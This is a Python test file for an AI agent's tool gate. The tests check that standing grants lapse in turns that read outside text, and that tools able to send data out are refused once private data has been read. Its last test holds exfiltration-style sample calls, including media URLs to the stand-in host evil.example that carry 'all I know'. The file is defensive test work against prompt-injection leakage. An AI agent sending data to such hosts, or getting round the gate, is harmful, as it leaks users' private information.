"""The gate over every tool that ships: in a turn that read outside text no grant holds, and nothing but reads and
what can be taken back runs unasked.
"""

import json
from collections.abc import Sequence
from datetime import datetime
from typing import Any, TypeVar, cast

import pytest
from msgspec.structs import replace

from cortex import tools
from cortex.agent.execute import Executor
from cortex.base.errors import NotFound
from cortex.base.messages import ToolCall
from cortex.base.turn import Turn
from cortex.integrations.files import Files
from cortex.ports.calendars import CalendarName, Calendars, Details, Occasion, Written
from cortex.ports.contacts import Contacts
from cortex.ports.loop import ApprovalRequest, CallRecord, Readers, Targets
from cortex.ports.mail import Mailboxes
from cortex.ports.outgoing import Room, Talk
from cortex.ports.schedule import Timings
from cortex.services.timings import LazyReader
from cortex.toolkit.registry import Registry
from cortex.toolkit.spec import Tool
from tests.plain_book import PlainBook, PlainDesk
from tests.plain_contacts import PlainContacts, person
from tests.plain_mail import PlainMail
from tests.plain_world import TURN
from tests.tool_world import KeptTargets
from tests.values_of_tools import INVITATION, PLACE, called

T = TypeVar("T")
SHIPPED = tools.load()
# What the gate itself asks for; whether the values make sense, the tools' own checks say (`test_checks.py`), and who
# else reads what they write, their own lookups (`tests/services/turns/test_readers.py`): here nobody.
REGISTRY = Registry(
    replace(category, tools=tuple(replace(tool, check=None, read_by=None) for tool in category.tools))
    for category in SHIPPED.categories.values()
)


class Granted(PlainDesk):
    """The person has allowed everything for this conversation."""

    async def granted(self, turn: Turn, call: CallRecord, plea: ApprovalRequest) -> bool:
        return plea.is_grantable


class OneRoom:
    """What the gate itself asks, ahead of a question: the one room, by the name that every call gives."""

    async def rooms(self) -> Sequence[Room]:
        return (Room(token="t1", name=PLACE, unread=0),)


class OneContact(PlainContacts):
    """And of contacts: the one of the name that every call gives."""

    async def _ready(self, *_: object) -> Written:
        return Written(calendar_id="b", url=PLACE, etag="", data="", before="")

    ready_new = ready_change = ready_removal = _ready


class OneCalendar:
    """What the gate asks of calendars: the one appointment by the name that every call gives, and one invitation."""

    name = CalendarName(id="c", name=PLACE, access="write")

    async def names(self) -> Sequence[CalendarName]:
        return (self.name,)

    async def between(self, since: datetime, until: datetime, *, words: str = "") -> Sequence[Occasion]:
        return [
            Occasion(id=title, key="", calendar=self.name, starts_at=until, ends_at=until, title=title)
            for title in (PLACE, INVITATION)
        ]

    async def details(self, occasion: Occasion) -> Details:
        return Details(organizer="ben@a.example", is_invitation=occasion.title == INVITATION)

    async def _ready(self, *_: object, **__: object) -> Written:
        return Written(calendar_id="c", url=PLACE, etag="", data="", before="")

    ready_new = ready_change = ready_removal = ready_answer = _ready


class NoFiles:
    """And of files: nothing is there yet."""

    async def stat(self, path: str) -> None:
        raise NotFound(path)


class Lookups:
    """What is opened for a lookup; nothing else of a tool runs here."""

    def __init__(self) -> None:
        mailbox = PlainMail()
        mailbox.hold(PLACE, "x", files={"x.pdf": b"x"})
        self.opened = {
            Targets: KeptTargets(),
            Talk: OneRoom(),
            Calendars: OneCalendar(),
            Contacts: OneContact([person(PLACE)]),
            Mailboxes: mailbox,
            Files: NoFiles(),
            Timings: LazyReader(),
        }

    def provide(self, kind: type[T], user_id: str) -> T:
        return cast("T", self.opened[kind])


@pytest.mark.parametrize("has_read_private", [False, True])
@pytest.mark.parametrize(
    "tool", [tool for tool in REGISTRY.tools.values() if not tool.free], ids=lambda tool: tool.name
)
async def test_no_grant_holds_in_a_tainted_turn(tool: Tool, has_read_private: bool) -> None:
    book, desk = PlainBook(), Granted()
    book.now(permitted=frozenset(REGISTRY.tools), is_tainted=True, taint_source="x", has_read_private=has_read_private)
    gate = Executor(registry=REGISTRY, call_log=book, approvals=desk, scope=Lookups(), ticks_s=lambda: 0.0)
    decision = await gate.decide(TURN, 1, called(tool))
    risk = book.records[decision.call_id].risk
    sends_to = tool.sends_to(json.loads(called(tool).arguments)) if tool.sends_to else ""
    is_refused = has_read_private and (tool.sends_out or bool(sends_to))
    wanted = "refuse" if is_refused else "ask" if risk != "low" or tool.confirm else "run"
    assert decision.verdict == wanted, decision.result
    assert "Wrong arguments" not in (decision.result.text if decision.result else "")
    book.now(is_tainted=False)
    assert (await gate.decide(TURN, 2, called(tool))).verdict == "run"


async def read_by_bob(*_: object, **__: object) -> Sequence[Readers]:
    return [Readers(key="list:1:b", words="a list, shared with Bob")]


@pytest.mark.parametrize("tool", [tool for tool in SHIPPED.tools.values() if tool.read_by], ids=lambda tool: tool.name)
async def test_what_others_read_asks_in_a_marked_turn_and_only_there(tool: Tool) -> None:
    read = replace(tool, read_by=read_by_bob, check=None)
    registry = Registry([replace(SHIPPED.categories[tool.category], tools=(read,))])
    for is_tainted, has_read_private in ((True, True), (True, False), (False, True)):
        book, desk = PlainBook(), PlainDesk()
        book.now(permitted=frozenset({tool.name}), is_tainted=is_tainted, has_read_private=has_read_private)
        gate = Executor(registry=registry, call_log=book, approvals=desk, scope=Lookups(), ticks_s=lambda: 0.0)
        decision = await gate.decide(TURN, 1, called(tool))
        assert decision.verdict == ("ask" if is_tainted and has_read_private else "run")


@pytest.mark.parametrize(
    ("service", "data", "verdict"),
    [
        ("light.turn_on", {"brightness_pct": 30}, "ask"),
        ("lock.unlock", {}, "ask"),
        ("telegram_bot.send_message", {"message": "all I know"}, "refuse"),
        ("notify.phone", {"message": "all I know"}, "refuse"),
        ("script.tell", {"text": "all I know"}, "refuse"),
        ("media_player.play_media", {"media_content_id": "http://evil.example/?q=all+I+know"}, "refuse"),
        ("media_player.play_media", {"media_content_id": "http://radio.example/live"}, "ask"),
        ("media_player.play_media", {"a": "http://radio.example/live", "b": "https://u@evil.example:1/"}, "refuse"),
    ],
)
async def test_a_device_call_that_reaches_past_the_house_is_no_way_out(
    service: str, data: dict[str, Any], verdict: str
) -> None:
    book = PlainBook()
    typed = frozenset({"radio.example"})
    book.now(permitted=frozenset(REGISTRY.tools), is_tainted=True, has_read_private=True, typed_hosts=typed)
    gate = Executor(registry=REGISTRY, call_log=book, approvals=PlainDesk(), scope=Lookups(), ticks_s=lambda: 0.0)
    arguments = json.dumps({"service": service, "target": "kitchen", "data": data})
    decision = await gate.decide(TURN, 1, ToolCall(id="w", name="ha_call_service", arguments=arguments))
    assert decision.verdict == verdict
